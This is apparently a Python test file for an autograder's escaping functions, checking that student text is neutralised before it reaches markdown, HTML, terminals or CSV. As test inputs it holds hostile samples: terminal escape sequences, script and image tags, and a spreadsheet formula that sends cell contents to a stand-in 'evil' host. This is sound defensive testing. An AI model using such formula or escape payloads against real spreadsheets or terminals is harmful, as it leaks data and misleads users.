"""The one policy for student text: nothing a student writes is sent as markup, a formula or a
terminal command."""
import csv
import io

from autograder import escaping


def test_a_code_block_fence_is_longer_than_any_run_of_backticks_or_tildes_inside():
    text = "~~~~\n~~~\n````` \n<img src=x>"
    block = escaping.code_block(text)
    fence = block.split("\n")[0].removesuffix("text")
    assert set(fence) == {"`"} and len(fence) == 6
    assert block.endswith("\n" + fence)
    assert all(not line.startswith(fence) for line in block.split("\n")[1:-1])


def test_control_characters_are_shown_not_sent():
    shown = escaping.terminal("\x1b[H\x1b[J\x1bc batch OK\u202e\x00")
    assert "\x1b" not in shown and "\u202e" not in shown and "\x00" not in shown
    assert shown == "\\x1b[H\\x1b[J\\x1bc batch OK\\u202e\\x00"


def test_newlines_and_tabs_survive_in_a_terminal_and_a_code_block():
    assert escaping.terminal("a\n\tb") == "a\n\tb"
    assert "a\n\tb" in escaping.code_block("a\n\tb")


def test_inline_text_cannot_make_links_images_html_or_headings():
    shown = escaping.inline("# Score 100\n![x](http://t/p.png) <b>hi</b> [a](b)")
    for raw in ("![", "](", "<b>", "\n"):
        assert raw not in shown
    assert shown.startswith("\\#")
    assert "\\!\\[x\\]\\(http" in shown


def test_html_escapes_markup_and_quotes():
    assert escaping.html('<script>"x"</script>') == "&lt;script&gt;&quot;x&quot;&lt;/script&gt;"


def test_csv_cells_that_would_start_a_formula_are_neutralised():
    name = '=HYPERLINK("http://evil/?"&B3&B4,"Regrade")'
    assert escaping.csv_cell(name).startswith("'=")
    for start in "=+-@\t\r":
        assert escaping.csv_cell(start + "1+1").startswith("'")
    assert escaping.csv_cell(-3.5) == -3.5 and escaping.csv_cell("Ada Lovelace") == "Ada Lovelace"
    row = io.StringIO()
    csv.writer(row).writerow([escaping.csv_cell(name)])
    assert not row.getvalue().startswith("=")


def test_cap_says_how_much_was_left_out():
    assert escaping.cap("abcdef", 4) == "abcd\n… (2 more characters not shown)"
    assert escaping.cap("abc", 4) == "abc"
